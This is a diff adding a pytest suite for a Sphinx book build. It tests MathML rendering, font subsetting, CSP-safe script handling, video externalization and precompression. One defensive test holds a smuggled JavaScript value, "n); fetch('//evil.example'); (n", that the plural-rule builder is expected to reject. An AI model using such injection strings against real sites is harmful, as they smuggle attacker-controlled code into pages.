@@ -1,0 +1,199 @@
+"""What the build writes so that pages are light and obey their Content-Security-Policy: MathML
+equations, font subsets, scripts as files, the player's files, compressed copies."""
+
+import base64
+import gzip
+import io
+import xml.etree.ElementTree as ET
+
+import brotli
+import pytest
+from fontTools.ttLib import TTFont
+from sphinx.builders.html._assets import _JavaScript
+
+from book_build import assets, icons, mathml, player, policy
+
+MATHML = "{http://www.w3.org/1998/Math/MathML}"
+
+
+def parse(markup: str) -> ET.Element:
+    """The MathML as XML (it must be well-formed), with the MathML namespace."""
+    markup = markup.replace("<math", '<math xmlns="http://www.w3.org/1998/Math/MathML"', 1)
+    return ET.fromstring(markup.replace("&ApplyFunction;", "\u2061"))
+
+
+def tags(element: ET.Element) -> list[str]:
+    return [e.tag.removeprefix(MATHML) for e in element.iter()]
+
+
+def text(element: ET.Element, tag: str) -> list[str]:
+    return [e.text for e in element.iter(MATHML + tag)]
+
+
+def test_the_book_s_formulas_become_mathml():
+    update, _ = mathml.to_mathml(r"a \leftarrow a - \eta \nabla L(a)", display=True)
+    tree = parse(update)
+    assert tree.get("display") == "block"
+    assert "←" in text(tree, "mo") and "η" in text(tree, "mi") and "∇" in text(tree, "mi")
+
+    gradient, _ = mathml.to_mathml(r"\nabla L(a) = \frac{2}{n} X^\top (X a - y)", False)
+    tree = parse(gradient)
+    assert tree.get("display") is None  # inline
+    fraction = next(tree.iter(MATHML + "mfrac"))
+    assert [child.text for child in fraction] == ["2", "n"]
+    transpose = next(tree.iter(MATHML + "msup"))
+    assert [child.text for child in transpose] == ["X", "⊤"]
+
+    mse, _ = mathml.to_mathml(r"\frac{1}{n} \sum_{i=1}^{n} \left(\hat y_i - y_i\right)^2", True)
+    tree = parse(mse)
+    sum_ = next(tree.iter(MATHML + "munderover"))  # limits above and below in display style
+    assert sum_[0].text == "∑" and sum_[2].text == "n"
+    assert "mover" in tags(tree)  # the hat
+
+    bold, _ = mathml.to_mathml(r"\mathbf{x}^\top \boldsymbol{\theta}", False)
+    assert "𝐱" in text(parse(bold), "mi") and "𝜽" in text(parse(bold), "mi")
+
+    matrix, _ = mathml.to_mathml(r"\begin{pmatrix} x_1 & 1 \\ \vdots & \vdots \end{pmatrix}", True)
+    tree = parse(matrix)
+    assert len(list(tree.iter(MATHML + "mtr"))) == 2 and "⋮" in text(tree, "mo")
+
+
+@pytest.mark.parametrize("environment", ["aligned", "split"])
+def test_aligned_equations_become_a_table_aligned_by_classes(environment):
+    latex = rf"\begin{{{environment}}} a &= b + c \\ d &= e \end{{{environment}}}"
+    markup, declarations = mathml.to_mathml(latex, display=True)
+    tree = parse(markup)
+    rows = list(tree.iter(MATHML + "mtr"))
+    assert len(rows) == 2 and all(len(row) == 2 for row in rows)  # left and right of "="
+    assert ' style="' not in markup
+    right = "math-text-align-right math-justify-items-end math-padding-right-0"
+    assert rows[0][0].get("class") == right
+    assert "text-align: right" in declarations
+
+
+def test_style_attributes_become_classes_with_rules_in_the_stylesheet():
+    markup, used = mathml.without_styles('<mtd style="text-align: left;padding-left:1em;">x</mtd>')
+    assert markup == '<mtd class="math-text-align-left math-padding-left-1em">x</mtd>'
+    assert used == {"text-align: left", "padding-left: 1em"}
+    css = mathml.stylesheet("0000abcd", used)
+    assert ".math-padding-left-1em { padding-left: 1em; }" in css
+    assert 'url("math.woff2?v=0000abcd")' in css
+
+
+def test_a_style_that_is_not_layout_is_refused():
+    with pytest.raises(mathml.UnknownStyle):
+        mathml.without_styles('<mi style="background: url(x)">x</mi>')
+
+
+def test_several_equations_of_one_block_are_aligned():
+    class Block(dict):
+        def __init__(self, text):
+            super().__init__(number=None)
+            self.text = text
+
+        def astext(self):
+            return self.text
+
+    assert mathml.display_latex(Block("a = 1")) == "a = 1"
+    aligned = r"\begin{aligned}a = 1 \\ b = 2\end{aligned}"
+    assert mathml.display_latex(Block("a = 1\n\nb = 2")) == aligned
+
+
+def test_the_font_holds_the_italic_letters_the_browser_draws():
+    markup, _ = mathml.to_mathml(r"\eta \nabla L(a) + h", display=False)
+    chars = mathml.math_characters(markup)
+    # MathML draws a one-letter identifier in italic: Unicode's Mathematical Italic letters.
+    assert {"𝜂", "𝐿", "𝑎", "ℎ", "∇", "(", "+"} <= chars
+    subset = assets.font_subset(mathml.FONT_SOURCE, {ord(c) for c in chars}, ["*"])
+    font = TTFont(io.BytesIO(subset))
+    cmap = font.getBestCmap()
+    assert all(ord(c) in cmap for c in chars if c.strip() and c != "\u2061")
+    assert "MATH" in font  # the table that stretches brackets and sizes the sum sign
+    assert ord("Z") not in cmap  # a subset: what the equations use, not the 1.5 MB font
+
+
+def test_the_icon_font_has_every_icon_and_nothing_else():
+    from_css = icons.css_icons(icons.THEME_CSS.read_text(encoding="utf-8"))
+    assert 0xF05A in from_css  # the circled "i" of a note
+    wanted = set(icons.ICONS.values()) | from_css
+    data = assets.font_subset(icons.FONT_SOURCE, wanted, layout_features=[])
+    font = TTFont(io.BytesIO(data))
+    cmap = set(font.getBestCmap())
+    assert set(icons.ICONS.values()) <= cmap <= wanted  # brand icons are in another font
+    assert len(data) < 8_000
+    css = icons.stylesheet("12345678")
+    assert '.fa-magnifying-glass { --fa: "\\f002"; }' in css
+    assert '.fa-solid { --fa-family: "Book Icons"; }' in css  # not the theme's 150 KB font
+
+
+def test_inline_scripts_become_one_deferred_file_after_sphinx_s_options():
+    written = {}
+    scripts = [
+        _JavaScript("_static/documentation_options.js"),
+        _JavaScript("_static/togglebutton.js"),
+        _JavaScript("", body="let hint = 'show';"),
+        _JavaScript("b.js", **{"async": "async"}),
+        _JavaScript(None, body="DOCUMENTATION_OPTIONS.pagename = 'x';"),
+    ]
+    result = policy.inline_scripts_as_files(scripts, written.__setitem__)
+    names = [str(js.filename) for js in result]
+    (inline,) = written
+    assert names == ["_static/documentation_options.js", inline, "_static/togglebutton.js", "b.js"]
+    # Settings first: the deferred toggle button reads its settings as soon as it runs.
+    assert written[inline] == "let hint = 'show';\nDOCUMENTATION_OPTIONS.pagename = 'x';\n"
+    assert inline == f"_static/inline/{assets.checksum(written[inline].encode())}.js"
+    assert [js.attributes.get("defer") for js in result] == ["defer", "defer", "defer", None]
+    assert result[3].attributes["async"] == "async"
+
+
+def test_the_plural_rule_is_code_and_nothing_else(tmp_path):
+    rule = "n == 1 ? 0 : n != 0 && n % 1000000 == 0 ? 1 : 2"  # Spanish, from Sphinx's catalog
+    script = policy.plural_rule_script(rule)
+    assert f"return ({rule});" in script and "new Function(" not in script
+    with pytest.raises(policy.UnsafePluralRule):
+        policy.plural_rule_script("n); fetch('//evil.example'); (n")
+
+
+def test_the_policy_allows_the_site_only():
+    assert "script-src 'self'" in policy.POLICY and "style-src 'self'" in policy.POLICY
+    assert "unsafe-inline" not in policy.POLICY and "*" not in policy.POLICY
+
+
+def test_the_player_s_video_and_script_become_files():
+    video = b"\x00\x00\x00\x18ftypmp42 not really a video"
+    markup = (
+        f'<figure class="descent-player"><video src="data:video/mp4;base64,'
+        f'{base64.b64encode(video).decode()}" width="400"></video>'
+        f"<script>{player.player_script()}</script></figure>"
+    )
+    saved = {}
+    result = player.externalize(markup, saved.__setitem__, "../_images/")
+    name = player.video_file_name(video)
+    assert saved == {name: video}
+    assert f'<video src="../_images/{name}" width="400">' in result
+    assert "<script>" not in result and "data:" not in result
+
+
+def test_text_files_get_compressed_copies_and_others_do_not(tmp_path):
+    page = tmp_path / "page.html"
+    page.write_text("<p>hello</p>" * 100)
+    (tmp_path / "font.woff2").write_bytes(b"binary")
+    assert assets.precompress(tmp_path) == 1
+    assert gzip.decompress((tmp_path / "page.html.gz").read_bytes()) == page.read_bytes()
+    assert brotli.decompress((tmp_path / "page.html.br").read_bytes()) == page.read_bytes()
+    assert not (tmp_path / "font.woff2.gz").exists()
+    # Up to date: nothing to do again. Changed: compressed again.
+    assert assets.precompress(tmp_path) == 0
+    page.write_text("<p>changed</p>")
+    assert assets.precompress(tmp_path) == 1
+    assert gzip.decompress((tmp_path / "page.html.gz").read_bytes()) == b"<p>changed</p>"
+
+
+def test_compressed_copies_are_the_same_on_every_run(tmp_path):
+    for folder in ("one", "two"):
+        (tmp_path / folder).mkdir()
+        (tmp_path / folder / "a.css").write_text("body { color: red; }\n" * 50)
+        assets.precompress(tmp_path / folder)
+    for suffix in (".gz", ".br"):
+        one, two = (tmp_path / f / f"a.css{suffix}" for f in ("one", "two"))
+        assert one.read_bytes() == two.read_bytes()
